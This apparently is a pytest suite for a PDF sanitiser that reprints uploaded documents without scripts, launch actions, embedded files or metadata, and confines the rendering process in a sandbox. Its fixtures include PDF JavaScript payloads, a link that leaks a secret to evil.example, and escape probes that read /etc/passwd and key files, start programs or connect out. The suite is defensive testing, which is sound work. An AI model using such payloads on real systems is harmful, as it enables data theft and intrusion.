"""A document that somebody sent is printed anew: its pages stay, and nothing else; what is hostile harms nobody."""

import ctypes
import io
import os
import socket
import subprocess
import sys
import tempfile
import time
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest
from pypdf import PdfReader

from caxamarca import reprinting
from caxamarca.reprinting import Fault, NotReprinted, reprinted
from tests.support.papers import (
    CATALOG,
    FONT,
    ONE_PAGE,
    SECRET,
    a_bomb,
    a_page,
    a_paper,
    file_of,
    locked,
    of_pages,
    said,
    stream,
    telling,
)

MOST = 40
NOTE = stream(b"<x:xmpmeta>%b</x:xmpmeta>" % SECRET, b"/Type/Metadata/Subtype/XML")
SCRIPT = b"<</S/JavaScript/JS(app.alert\\('%b'\\))>>" % SECRET
SIGNED = b"<</Type/Annot/Subtype/Link/Rect[0 0 90 90]/A<</S/URI/URI(http://evil.example/%b)>>>>" % SECRET

ACTING = {
    "a script at opening": a_paper(catalog=b"/OpenAction" + SCRIPT),
    "a script by name": a_paper(catalog=b"/Names<</JavaScript<</Names[(a)%b]>>>>" % SCRIPT),
    "a program to launch": a_paper(page=b"/AA<</O<</S/Launch/F(%b)>>>>" % SECRET),
    "a file inside": a_paper(
        catalog=b"/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>]>>>>",
        rest=(stream(SECRET, b"/Type/EmbeddedFile"),),
    ),
    "a link": a_paper(page=b"/Annots[%b]" % SIGNED),
    "a form": a_paper(catalog=b"/AcroForm<</XFA 6 0 R/Fields[]>>", rest=(stream(SECRET),)),
    "who wrote it": a_paper(more=b"/Info<</Author(%b)/CreationDate(D:20260101)>>" % SECRET),
    "notes about it": a_paper(catalog=b"/Metadata 6 0 R", rest=(NOTE,)),
    "notes about a page": a_paper(
        page=b"/Metadata 6 0 R/PieceInfo<</A<</Private(%b)>>>>" % SECRET, rest=(NOTE,)
    ),
}
"""What acts or tells. Each has the secret in it."""


def read(content: bytes) -> PdfReader:
    return PdfReader(io.BytesIO(content))


def refused(content: bytes) -> Fault:
    with pytest.raises(NotReprinted) as fault:
        reprinted(content, MOST)
    return fault.value.fault


@pytest.mark.parametrize("content", ACTING.values(), ids=list(ACTING))
def test_what_acts_or_tells_beside_the_pages_is_gone(content: bytes) -> None:
    assert telling(content), "the document must be one that tells"
    kept = reprinted(content, MOST).content
    assert not telling(kept)
    found = read(kept)
    root: Any = found.trailer["/Root"]
    assert set(root) <= {"/Type", "/Pages", "/Metadata", "/Lang", "/ViewerPreferences"}
    assert set(found.metadata or {}) <= {"/Creator"}
    assert [set(one) & {"/AA", "/Annots", "/Metadata", "/PieceInfo"} for one in found.pages] == [set()]
    assert "Acta de entrega" in found.pages[0].extract_text()


def test_text_and_pages_stay_as_they_are() -> None:
    found = reprinted(of_pages(40), MOST)
    assert found.pages == len(read(found.content).pages) == 40
    page = read(reprinted(a_paper("Vecinas y vecinos"), MOST).content).pages[0]
    assert page.extract_text() == "Vecinas y vecinos"
    assert [float(one) for one in page.mediabox] == [0, 0, 300, 200]


def test_the_same_document_is_printed_the_same_whenever_it_is() -> None:
    assert reprinted(a_paper(), MOST) == reprinted(a_paper(), MOST)


def test_a_document_that_everybody_opens_is_not_locked() -> None:
    """Many offices forbid printing, with a password that opens for everybody: the empty one."""
    assert "Acta" in read(reprinted(locked(""), MOST).content).pages[0].extract_text()


WHOLE = a_paper()
CYCLE = file_of(CATALOG % b"", b"<</Type/Pages/Kids[2 0 R]/Count 1>>", a_page(), said("x"), FONT)
DEEP = a_paper(page=b"/X " + b"[" * 200_000 + b"]" * 200_000)


@pytest.mark.parametrize(
    ("content", "fault"),
    [
        (b"", Fault.NO_DOCUMENT),
        (b"%PDF-1.7\n", Fault.NO_DOCUMENT),
        (b"<html><script>alert(1)</script></html>", Fault.NO_DOCUMENT),
        (os.urandom(50_000), Fault.NO_DOCUMENT),
        (CYCLE, Fault.NO_DOCUMENT),
        (file_of(CATALOG % b"", ONE_PAGE, a_page(box=b"0 0 1e9 1e9"), said("x"), FONT), Fault.NO_DOCUMENT),
        (locked("secreta"), Fault.LOCKED),
        (of_pages(41), Fault.TOO_MANY_PAGES),
        (of_pages(3_000), Fault.TOO_MANY_PAGES),
        (DEEP, Fault.TOO_HARD),
        (a_bomb(1_500), Fault.TOO_HARD),
    ],
    ids=[
        "nothing",
        "head",
        "html",
        "noise",
        "a page tree that goes round",
        "kilometres",
        "locked",
        "41 pages",
        "3,000 pages",
        "brackets without end",
        "a bomb",
    ],
)
def test_what_cannot_be_printed_says_why(content: bytes, fault: Fault) -> None:
    assert refused(content) is fault


@pytest.mark.parametrize("percent", range(5, 100, 10))
def test_a_document_cut_short_is_printed_or_refused_and_never_an_error(percent: int) -> None:
    with suppress(NotReprinted):
        assert reprinted(WHOLE[: len(WHOLE) * percent // 100], MOST).pages == 1


@pytest.mark.parametrize(
    ("before", "behind"),
    [
        (b"<html><script>alert(1)</script>", b"</html>"),
        (b"\xff\xd8\xff\xe0", b"\xff\xd9"),
        (b"", SECRET * 99),
    ],
    ids=["html", "jpeg", "something behind its end"],
)
def test_what_is_two_things_at_once_is_only_one_afterwards(before: bytes, behind: bytes) -> None:
    kept = reprinted(before + a_paper() + behind, MOST).content
    assert kept.startswith(b"%PDF-")
    assert not any(one in kept for one in (b"<script", b"\xff\xd8\xff", SECRET))


def test_a_drawing_that_draws_itself_ends() -> None:
    inner = stream(b"/X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>")
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>/Contents 4 0 R>>"
    assert reprinted(file_of(CATALOG % b"", ONE_PAGE, page, stream(b"/X Do"), FONT, inner), MOST).pages == 1


def test_nothing_of_what_was_sent_stays_behind(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    reprinted(a_paper(), MOST)
    refused(DEEP)
    monkeypatch.setattr(reprinting, "PATIENCE", 0.01)
    refused(a_paper())
    assert not list(tmp_path.iterdir())


def test_what_takes_too_long_is_given_up(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reprinting, "PATIENCE", 0.01)
    began = time.monotonic()
    assert refused(a_paper()) is Fault.TOO_HARD
    assert time.monotonic() - began < 5


ESCAPES = {
    "read a file of the machine": "open('/etc/passwd').read()",
    "look around": "__import__('os').listdir('/')",
    "read the keys beside": "open('../llave').read()",
    "write into its own folder": "open('mine', 'w').write('x')",
    "write elsewhere": "open('../escaped', 'w').write('x')",
    "start a program": "__import__('os').execv('/bin/true', ['true'])",
    "ask the network": "connected()",
    "take a lot of memory": "bytearray(2 * 1024**3)",
    "open many files": "[open('sent.pdf') for _ in range(30)]",
}

AS_THE_PROCESS = """
import importlib.util, os, socket, sys
spec = importlib.util.spec_from_file_location("reprinting", sys.argv[1])
module = importlib.util.module_from_spec(spec)
sys.modules["reprinting"] = module
spec.loader.exec_module(module)
from pathlib import Path
def connected():
    line = socket.socket()
    line.connect(("127.0.0.1", int(sys.argv[3])))
if sys.argv[4] == "shut in":
    module._shut_in(Path.cwd())
assert open("sent.pdf").read() == "una página"
try:
    eval(sys.argv[2])
except (OSError, MemoryError):
    sys.exit(7)
"""


OLD_SYSTEM = sys.platform != "linux" or ctypes.CDLL(None).syscall(reprinting.LANDLOCK[0], None, 0, 1) < 4


@pytest.mark.skipif(OLD_SYSTEM, reason="this system cannot shut a process in: Linux 6.7 or later can")
@pytest.mark.parametrize("how", ["shut in", "free"])
@pytest.mark.parametrize("deed", ESCAPES.values(), ids=list(ESCAPES))
def test_the_process_reaches_nothing_but_its_folder(deed: str, how: str, tmp_path: Path) -> None:
    """Free is the seeded fault: without its fence the same process does each of these."""
    folder = tmp_path / "own"
    folder.mkdir()
    (folder / "sent.pdf").write_text("una página", "utf-8")
    (tmp_path / "llave").write_text("secreta")
    with socket.create_server(("127.0.0.1", 0)) as door:
        command = [sys.executable, "-I", "-c", AS_THE_PROCESS, str(reprinting.__file__), deed]
        done = subprocess.run(
            [*command, str(door.getsockname()[1]), how], cwd=folder, capture_output=True, check=False
        )
    assert done.returncode == (7 if how == "shut in" else 0), done.stderr.decode()


def test_the_process_learns_no_setting_of_ours(monkeypatch: pytest.MonkeyPatch) -> None:
    told: list[dict[str, str]] = []
    real = subprocess.run

    def noting(*command: object, **options: object) -> object:
        told.append(options["env"])  # type: ignore[arg-type]
        return real(*command, **options)  # type: ignore[call-overload]

    monkeypatch.setenv("CAXAMARCA_DATABASE", "postgresql://secret")
    monkeypatch.setattr(subprocess, "run", noting)
    reprinted(a_paper(), MOST)
    assert set(told[0]) <= {"PATH", "LD_LIBRARY_PATH", "RAYON_NUM_THREADS", "MALLOC_ARENA_MAX", "LANG"}
